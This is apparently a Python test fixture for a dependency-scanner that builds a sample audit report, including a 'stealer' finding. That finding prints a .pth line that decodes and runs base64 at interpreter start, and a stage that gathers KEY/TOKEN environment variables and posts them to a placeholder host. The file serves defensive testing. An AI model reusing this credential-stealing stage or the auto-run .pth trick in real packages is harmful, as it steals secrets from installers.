"""Reports for the tests: a realistic one of any size, with every kind of thing that a report can hold."""

from __future__ import annotations

import hashlib

from scanner.model.advisory import DatabaseInfo
from scanner.model.capability import Capability
from scanner.model.coverage import Coverage
from scanner.model.finding import (
    CodeLine,
    DecodedLayer,
    DependencyPath,
    Evidence,
    Finding,
    PackageRef,
    PathStep,
    finding_id,
)
from scanner.model.graph import Edge, Root
from scanner.model.known import NotKnown
from scanner.model.location import Location
from scanner.model.locked import SeenFile
from scanner.model.package import Source
from scanner.model.report import (
    SCHEMA_VERSION,
    Asset,
    Baseline,
    CheckInfo,
    Graph,
    GraphEdge,
    GraphNode,
    InputFile,
    PackageEntry,
    PolicyInfo,
    Report,
    RuleInfo,
    RunInfo,
    ToolInfo,
    WaivedFinding,
)

ROOT = Root("labeling-vendor", "requirements.txt")
DEV = Root("labeling-vendor", "requirements-dev.txt", "group", "dev")
# fmt: off
NAMES = (
    "label-studio-sdk", "litellm", "datasets", "httpx", "httpcore", "anyio", "sniffio", "idna", "certifi", "h11",
    "pandas", "numpy", "pyarrow", "fsspec", "aiohttp", "multidict", "yarl", "frozenlist", "attrs", "openai",
    "pydantic", "pydantic-core", "tiktoken", "regex", "requests", "urllib3", "charset-normalizer", "tokenizers",
    "huggingface-hub", "filelock", "tqdm", "pyyaml", "jinja2", "markupsafe", "click", "python-dotenv", "lxml",
    "pillow", "opencv-python", "nltk", "joblib", "scikit-learn", "scipy", "threadpoolctl", "xxhash", "dill",
    "multiprocess",
)
# fmt: on


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def versions(count: int) -> list[tuple[str, str]]:
    """``count`` packages as name and version: real names first, then numbered ones."""
    names = [*NAMES, *(f"synthetic-package-{number:04d}" for number in range(count))][:count]
    return [(name, f"{len(name) % 5}.{index % 17}.{index % 7}") for index, name in enumerate(names)]


def package_entry(index: int, name: str, version: str) -> PackageEntry:
    unknown = index % 11 == 3
    gap = NotKnown("the artifact was not fetched: the index did not answer", "run again with the network")
    capabilities = [
        Capability("network", f"{name}/client.py:{10 + index}"),
        Capability("environment", f"{name}/config.py:{index + 1}"),
        Capability("subprocess", f"{name}/run.py:44"),
        Capability("native-code", f"{name}/_core.so"),
        Capability("filesystem-write", f"{name}/cache.py:8"),
        Capability("dynamic-code", f"{name}/plugins.py:91"),
    ]
    return PackageEntry(
        name=name,
        version=version,
        purl=f"pkg:pypi/{name}@{version}",
        source=Source() if index % 23 else Source("vcs", "git+https://git.example.org/x.git", "a" * 40),
        direct=index < 8,
        paths_from=(str(ROOT),) if index % 5 else (str(ROOT), str(DEV)),
        licence=("Apache-2.0", "MIT", "BSD-3-Clause", NotKnown("its metadata names no licence"))[index % 4],
        artifact=gap if unknown else f"{name.replace('-', '_')}-{version}-py3-none-any.whl",
        sha256=gap if unknown else digest(name),
        size=gap if unknown else 1000 + index * 7919,
        upload_time=gap if unknown else f"202{index % 6}-0{1 + index % 9}-11T09:30:00Z",
        attestation="verified: GitHub, example/release.yml" if index % 7 == 1 else NotKnown("the index does not say"),
        capabilities=() if unknown else tuple(sorted(capabilities[: index % 7])),
        summary=f"A package called {name} that does one thing, and says so in a line.",
    )


def graph(packages: list[tuple[str, str]]) -> Graph:
    """Roots 0 and 1; packages from 2 on; a wide top, chains below, and a cycle."""
    nodes = [GraphNode(str(ROOT), root=ROOT), GraphNode(str(DEV), root=DEV)]
    nodes += [GraphNode(name, version, f"pkg:pypi/{name}@{version}") for name, version in packages]
    edges: set[tuple[int, int]] = set()
    count = len(packages)
    for index in range(min(8, count)):
        edges.add((index % 2 if index > 4 else 0, index + 2))
    for index in range(8, count):
        edges.add((2 + (index - 8) // 3, index + 2))
        if index % 4 == 0:
            edges.add((2 + index // 5, index + 2))
    if count > 40:
        edges |= {(2 + 37, 2 + 9), (2 + 9, 2 + 3)}  # a cycle back towards the top
    listed = tuple(
        GraphEdge(
            parent,
            child,
            Edge(f"{nodes[child].name}>={nodes[child].version}", location=Location("requirements.txt", 3 + child)),
        )
        for parent, child in sorted(edges)
        if parent != child
    )
    return Graph(tuple(nodes), listed)


def path_to(packages: list[tuple[str, str]], index: int) -> tuple[DependencyPath, ...]:
    steps: list[PathStep] = []
    while index >= 8:
        name, version = packages[index]
        steps.append(PathStep(name, version, f"{name}>={version}", Location("requirements.txt", 3 + index)))
        index = (index - 8) // 3
    name, version = packages[index]
    steps.append(PathStep(name, version, f"{name}=={version}", Location("requirements.txt", 3 + index)))
    root = PathStep(str(ROOT), location=Location("requirements.txt"))
    return ((root, *reversed(steps)),)


def stealer(package: tuple[str, str]) -> Finding:
    """A ``.pth`` that decodes and starts a stage: inert text that looks like the real thing."""
    name, version = package
    reference = PackageRef(name, version)
    line = "import base64,os;exec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHI7...'))" + " " * 30
    stage = (
        "import os, json, urllib.request\n"
        "secrets = {k: v for k, v in os.environ.items() if 'KEY' in k or 'TOKEN' in k}\n"
        "body = json.dumps(secrets).encode()\n"
        "urllib.request.urlopen('https://collector.example.invalid/in', data=body)\n"
    )
    return Finding(
        id=finding_id("code/pth-decode-exec", reference, "litellm_init.pth"),
        rule="code/pth-decode-exec",
        check="code",
        title="Decodes a hidden program and runs it whenever Python starts",
        severity="critical",
        confidence="certain",
        category="malicious",
        package=reference,
        trigger="interpreter-start",
        rejects=True,
        summary=(
            "The wheel installs a .pth file. Python runs its line at every start, before any program of yours. The "
            "line "
            "decodes a text and executes it; the decoded program reads environment variables that look like keys and "
            "tokens and sends them to a host that has nothing to do with the project."
        ),
        remediation=(
            "Do not install this release. On every machine where it was installed, assume that all credentials in the "
            "environment were read: rotate them, then remove the file and rebuild the environment."
        ),
        evidence=(
            Evidence(
                Location("litellm_init.pth", 1, artifact=f"{name}-{version}-py3-none-any.whl"),
                "one line of 34,628 bytes; the payload begins after 30 spaces",
                digest("pth"),
                (CodeLine(1, line, True),),
                (
                    DecodedLayer("base64 → text", stage),
                    DecodedLayer("dict → json → bytes", "{...}", True, "json"),
                ),
            ),
            Evidence(
                Location("litellm/proxy/proxy_server.py", 127, 130, artifact=f"{name}-{version}-py3-none-any.whl"),
                "the same program, started at import",
                digest("proxy"),
                tuple(
                    CodeLine(123 + n, text, n in (4, 5))
                    for n, text in enumerate(
                        [
                            "import threading",
                            "",
                            "def _start() -> None:",
                            "    # warm up",
                            "    b64 = 'aW1wb3J0IHVybGxpYi5yZXF1ZXN0'",
                            "    subprocess.Popen([sys.executable, '-c', base64.b64decode(b64)])",
                            "",
                            "_start()",
                        ]
                    )
                ),
            ),
        ),
        references=("https://attack.mitre.org/techniques/T1546/018/", "https://osv.dev/vulnerability/MAL-2026-0001"),
        controls=("ssdf-pw.4.4", "s2c2f-sca-4"),
        aliases=("MAL-2026-0001",),
        details=(("first seen", "2026-03-24"), ("runs as", "every user that starts this interpreter")),
    )


def vulnerability(package: tuple[str, str], number: int, paths: tuple[DependencyPath, ...]) -> Finding:
    reference = PackageRef(*package)
    advisory = f"GHSA-aaaa-bbbb-{number:04d}"
    severity = ("high", "medium", "low", "medium", "info")[number % 5]
    return Finding(
        id=finding_id("advisories/vulnerable", reference, advisory),
        rule="advisories/vulnerable",
        check="advisories",
        title=f"{advisory}: a crafted archive member is written outside the target folder ({package[0]})",
        severity=severity,  # type: ignore[arg-type]
        confidence="certain",
        category="vulnerability",
        package=reference,
        summary="An attacker who controls an archive that this package unpacks can overwrite any file of the user. "
        "The labeling service unpacks uploads of annotators, so the input is not trusted.",
        remediation=f"Upgrade to {package[1]}.post1 or later; nothing in the graph forbids it.",
        evidence=(
            Evidence(
                Location("requirements.txt", 3 + number),
                excerpt=(
                    CodeLine(2 + number, "# the labeling service"),
                    CodeLine(3 + number, f"{package[0]}=={package[1]} \\", True),
                    CodeLine(4 + number, f"    --hash=sha256:{digest(package[0])}"),
                ),
                sha256=digest("requirements"),
            ),
        ),
        paths=paths,
        references=(f"https://github.com/advisories/{advisory}", f"https://nvd.nist.gov/vuln/detail/CVE-2026-{number}"),
        aliases=(f"CVE-2026-{number + 1000}", f"PYSEC-2026-{number}"),
        details=(("fixed in", f"{package[1]}.post1"), ("CVSS", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N")),
        controls=("ssdf-pw.4.4",),
    )


def hygiene(package: tuple[str, str], number: int) -> Finding:
    reference = PackageRef(*package)
    return Finding(
        id=finding_id("hygiene/cooldown", reference, str(number)),
        rule=("hygiene/cooldown", "pins/missing-hash", "code/native-in-pure")[number % 3],
        check=("hygiene", "pins", "code")[number % 3],
        title=(
            "Released three days before this audit",
            "One entry has no hash in a file that has hashes",
            "A wheel that calls itself pure carries native code",
        )[number % 3],
        severity=("low", "medium", "medium")[number % 3],  # type: ignore[arg-type]
        confidence=("high", "certain", "medium")[number % 3],  # type: ignore[arg-type]
        category=("hygiene", "integrity", "code")[number % 3],  # type: ignore[arg-type]
        package=reference,
        trigger=("not-code", "not-code", "import")[number % 3],  # type: ignore[arg-type]
        summary="A release this young has not been looked at by many; most poisoned releases are withdrawn within "
        "a week.",
        remediation="Wait for the cooldown to pass, or pin the previous release.",
        evidence=(Evidence(Location("uv.lock", 40 + number, key_path=f"package[{number}].wheels[0].hash")),),
        references=("https://docs.pypi.org/",),
    )


def build_report(count: int = 47, *, findings: int = 12) -> Report:
    """A report of ``count`` packages with about ``findings`` findings besides the worst one."""
    packages = versions(count)
    found = [stealer(packages[1])] if count > 1 else []
    for number in range(findings):
        index = (number * 5 + 2) % count
        paths = path_to(packages, index)
        found.append(vulnerability(packages[index], number, paths) if number % 2 else hygiene(packages[index], number))
    unique = {one.id: one for one in found}
    ordered = tuple(sorted(unique.values(), key=lambda one: one.id))
    accepted = vulnerability(packages[0], 9001, path_to(packages, 0))
    coverage: list[Coverage] = []
    for index, (name, version) in enumerate(packages):
        subject = f"{name}=={version}"
        coverage.append(Coverage("advisories", subject, "checked"))
        if index % 11 == 3:
            why = "the artifact was not fetched: the index did not answer"
            coverage.append(Coverage("code", subject, "not-checked", why, "Run again with the network."))
        else:
            coverage.append(Coverage("code", subject, "checked"))
        if index % 23:
            coverage.append(Coverage("pins", subject, "checked"))
            why = "the extra is not installed"
            coverage.append(
                Coverage("attestations", subject, "not-checked", why, "Install assay[attestations] and audit again.")
            )
        else:
            coverage.append(Coverage("pins", subject, "not-applicable", "taken from version control"))
            coverage.append(Coverage("attestations", subject, "not-applicable", "taken from version control"))
    coverage.append(Coverage("inputs", "web/package-lock.json", "not-checked", "another ecosystem", "Audit it apart."))
    code = [f"{name}=={version}" for name, version in packages]
    return Report(
        schema_version=SCHEMA_VERSION,
        tool=ToolInfo("assay", "0.1.0", ("assay", "audit", "./labeling-vendor"), digest("rules")),
        verdict="reject",
        decided_by="a finding that no threshold softens: code/pth-decode-exec",
        reasons=(
            f"Decodes a hidden program and runs it whenever Python starts ({packages[min(1, count - 1)][0]}).",
            "A crafted archive member is written outside the target folder (datasets==3.2.2).",
            "18 more: 3 high, 6 medium, 9 low.",
            f"Attestations could not be verified for {count} packages: the extra is not installed.",
        ),
        run=RunInfo(
            "labeling-vendor", "2026-11-24T03:00:00Z", "3.12", "linux-x86_64", "online", ("https://pypi.org/simple/",)
        ),
        policy=PolicyInfo("built-in", digest("policy"), "high", ("advisories", "pins", "code")),
        database=DatabaseInfo(
            "bundled-seed",
            "https://osv-vulnerabilities.storage.googleapis.com/PyPI/all.zip",
            "2026-10-07",
            9000,
            4000,
            800,
            digest("db"),
            "malicious releases that were never installed more than a hundred times",
        ),
        inputs=(
            InputFile("requirements.txt", "requirements.txt", digest("requirements"), count, count),
            InputFile("requirements-dev.txt", "requirements.txt", digest("dev"), 3, 3),
        ),
        seen=(SeenFile("web/package-lock.json", "package-lock.json", "npm: another ecosystem", 412),),
        packages=tuple(
            sorted(
                (package_entry(index, *one) for index, one in enumerate(packages)),
                key=lambda one: (one.name, one.version),
            )
        ),
        graph=graph(packages),
        findings=ordered,
        waived=(WaivedFinding(accepted, "security@vendor.example", "2027-01-31", "Not reachable: no archives here."),),
        coverage=tuple(sorted(coverage)),
        assets=(
            Asset("reward-logic", "vendor/reward/model.py", "its path says reward", tuple(sorted(code[:20]))),
            Asset("curation-recipe", "vendor/curation/filters.py", "its path says curation, filters", tuple(code[2:9])),
            Asset("labels", "data/gold/labels.jsonl", "its path says gold, labels"),
            Asset("credentials", ".env", "its path says env"),
        ),
        checks=(
            CheckInfo("advisories", "Known vulnerabilities and malicious releases", "vulnerability"),
            CheckInfo("attestations", "Publisher attestations (PEP 740)", "integrity"),
            CheckInfo("code", "What the code does, and when", "code"),
            CheckInfo("hygiene", "Releases that do not smell right", "hygiene"),
            CheckInfo("inputs", "Dependency files", "input"),
            CheckInfo("pins", "Pinned versions and hashes", "integrity"),
        ),
        rules=(
            RuleInfo(
                "code/pth-decode-exec",
                "Decodes a hidden program and runs it at start",
                "A .pth line decodes text and executes it.",
                "A .pth file runs in every Python process of the environment, and nobody opens it.",
                "Remove the release; rotate what the machine could read.",
                ("https://docs.python.org/3/library/site.html",),
            ),
        ),
        baseline=Baseline(
            "audits/2026-10.json",
            digest("baseline"),
            "2026-10-01T08:00:00Z",
            tuple(one.id for one in ordered[:3]),
            ("assay-0123456789abcdef",),
        ),
    )
